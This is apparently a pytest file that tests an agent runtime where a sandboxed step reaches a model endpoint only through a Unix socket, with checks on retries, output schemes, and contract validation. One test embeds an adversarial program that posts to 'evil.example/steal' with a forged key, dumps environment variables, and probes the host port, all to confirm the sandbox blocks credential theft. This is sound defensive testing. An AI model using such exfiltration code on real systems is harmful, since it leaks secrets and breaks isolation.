"""A model behind an endpoint, run by the real runtime: it has a socket and still no network."""

import asyncio
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from agents.endpoints.gateway import endpoint_of
from agents.endpoints.settings import EndpointSettings
from agents.environments import EnvironmentCache
from agents.home import Home, write_private
from agents.runtimes.process import ProcessRuntime
from agents.runtimes.protocol import CubeBundle, RuntimeSetupError, StepOutcome, StepRequest
from cubes.contract import TaskName, load_contract, parse_contract
from cubes.errors import ContractError

CUBE = Path(__file__).parents[3] / "cubes" / "api_model"
PACK = "sha256:" + "1" * 64
CHAT = 'scheme: chat\nmodel: "big"\nprompt: What is it?\n'


@pytest.fixture
def run(home: Home, tmp_path: Path, endpoint: Any) -> Callable[..., StepOutcome]:
    """Run the wrapper, or a program in its place."""
    for name in ("data", "out"):
        (tmp_path / name).mkdir()
    (tmp_path / "data" / "a.png").write_bytes(b"\x89PNG")
    (tmp_path / "data" / "b.txt").write_text("a report")

    def run(parameters: str = CHAT, program: str | None = None, **changes: Any) -> StepOutcome:
        chosen = EndpointSettings.model_validate(
            {"url": endpoint.url, "cubes": [PACK], "requests_per_minute": 1e6, "secret": "model.key", **changes}
        )
        write_private(home.path / "secrets" / "model.key", "a-key\n")
        (tmp_path / "parameters").write_text(parameters)
        bundle = CubeBundle(contract=load_contract(CUBE), pack_digest=PACK, folder=CUBE)
        if program is not None:
            (tmp_path / "program").mkdir()
            (tmp_path / "program" / "infer.py").write_text(program)
            bundle = replace(bundle, folder=tmp_path / "program")
        runtime = ProcessRuntime(home.folder("work"), EnvironmentCache(tmp_path / "e"))
        task = bundle.contract.tasks[TaskName.INFER]
        with endpoint_of(
            home, {"model": chosen}, task, PACK, record=tmp_path / "calls", folder=tmp_path / "endpoint"
        ) as volumes:
            inputs = {"data_path": tmp_path / "data", "parameters_file": tmp_path / "parameters"}
            request = StepRequest(
                key="step",
                cube=bundle,
                task=TaskName.INFER,
                volumes={**inputs, **volumes, "output_path": tmp_path / "out"},
                log=tmp_path / "log",
            )
            return asyncio.run(runtime.run(request))

    return run


class TestChat:
    def test_each_case_is_asked_about(self, run: Callable[..., StepOutcome], endpoint: Any, tmp_path: Path) -> None:
        outcome = run()
        assert outcome.ok, outcome.message
        assert json.loads((tmp_path / "out/predictions.json").read_text()) == {
            "a.png": "malignant",
            "b.txt": "malignant",
        }
        first, second = (asked["messages"][0]["content"] for asked in endpoint.asked)
        assert first[1]["image_url"]["url"].startswith("data:image/png;base64,")
        assert second == [{"type": "text", "text": "What is it?"}, {"type": "text", "text": "a report"}]
        assert endpoint.asked[0]["model"] == "big"
        assert len((tmp_path / "calls").read_text().splitlines()) == 2

    def test_a_bad_day_is_survived(self, run: Callable[..., StepOutcome], endpoint: Any) -> None:
        endpoint.moods, endpoint.retry_after = [429, 500], "0"
        assert run().ok

    def test_a_case_without_an_answer_fails_the_step(self, run: Callable[..., StepOutcome], endpoint: Any) -> None:
        endpoint.moods = [400]
        outcome = run()
        assert outcome.exit_code == 1
        assert "case 'a.png' has no answer" in outcome.message
        assert "the endpoint answered 400" in outcome.message


class TestJson:
    def test_a_plain_scheme(self, run: Callable[..., StepOutcome], endpoint: Any, tmp_path: Path) -> None:
        assert run("scheme: json\nfield: prediction\n").ok
        assert json.loads((tmp_path / "out/predictions.json").read_text())["b.txt"] == 0.75
        assert endpoint.asked[1] == {"case": "b.txt", "content": "YSByZXBvcnQ="}


class TestBorder:
    def test_a_step_cannot_choose_where_it_goes_nor_see_the_key(
        self, run: Callable[..., StepOutcome], endpoint: Any, tmp_path: Path
    ) -> None:
        program = """
import http.client, json, os, socket
class C(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/mlcommons/volumes/endpoint/socket")
c = C("evil.example")
c.request("POST", "http://evil.example/steal?x=1", b"{}", {"Authorization": "Bearer mine", "Host": "evil.example"})
answer = c.getresponse()
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2)
    reached = True
except OSError:
    reached = False
found = {"headers": str(answer.headers), "body": answer.read().decode(), "env": str(dict(os.environ)), "reached": reached}
open("/mlcommons/volumes/predictions/x", "w").write(json.dumps(found))
""".replace("PORT", endpoint.url.split(":")[2].split("/")[0])
        outcome = run(program=program)
        assert outcome.ok, outcome.message
        assert (endpoint.paths, endpoint.keys) == (["/v1/chat/completions"], ["Bearer a-key"])
        said = (tmp_path / "out/x").read_text()
        assert "a-key" not in said
        assert json.loads(said)["reached"] is False

    def test_a_cube_that_the_operator_did_not_name(self, home: Home, tmp_path: Path) -> None:
        task = load_contract(CUBE).tasks[TaskName.INFER]
        other = EndpointSettings(url="https://model.example/v1", cubes=("sha256:" + "2" * 64,))
        for endpoints in ({}, {"model": other}):
            with pytest.raises(RuntimeSetupError, match=r"write its digest under \[endpoints\.model\]"):
                endpoint_of(
                    home, endpoints, task, PACK, record=tmp_path / "calls", folder=tmp_path / "endpoint"
                ).__enter__()

    def test_a_secret_that_is_not_there(self, home: Home, tmp_path: Path) -> None:
        task = load_contract(CUBE).tasks[TaskName.INFER]
        chosen = EndpointSettings(url="https://model.example/v1", cubes=(PACK,), secret="none.key")
        with pytest.raises(RuntimeSetupError, match=r"'none\.key' cannot be read"):
            endpoint_of(
                home, {"model": chosen}, task, PACK, record=tmp_path / "calls", folder=tmp_path / "endpoint"
            ).__enter__()

    def test_nothing_is_left_of_a_socket_but_its_place(self, run: Callable[..., StepOutcome], tmp_path: Path) -> None:
        """A step that the next agent takes over has that very folder mounted."""
        assert run().ok
        place = tmp_path / "endpoint"
        before = place.stat().st_ino
        assert list(place.iterdir()) == []
        (place / "socket").touch()  # an agent ended without notice
        assert run().ok
        assert place.stat().st_ino == before


class TestContract:
    TEXT = (CUBE / "container_config.yaml").read_text()

    @pytest.mark.parametrize(
        "changed",
        [TEXT.replace("    endpoint: model\n", ""), TEXT.replace("      endpoint: {mount", "      labels: {mount")],
    )
    def test_the_volume_and_its_name_belong_together(self, changed: str) -> None:
        with pytest.raises(ContractError, match=r"endpoint|labels"):
            parse_contract(changed)
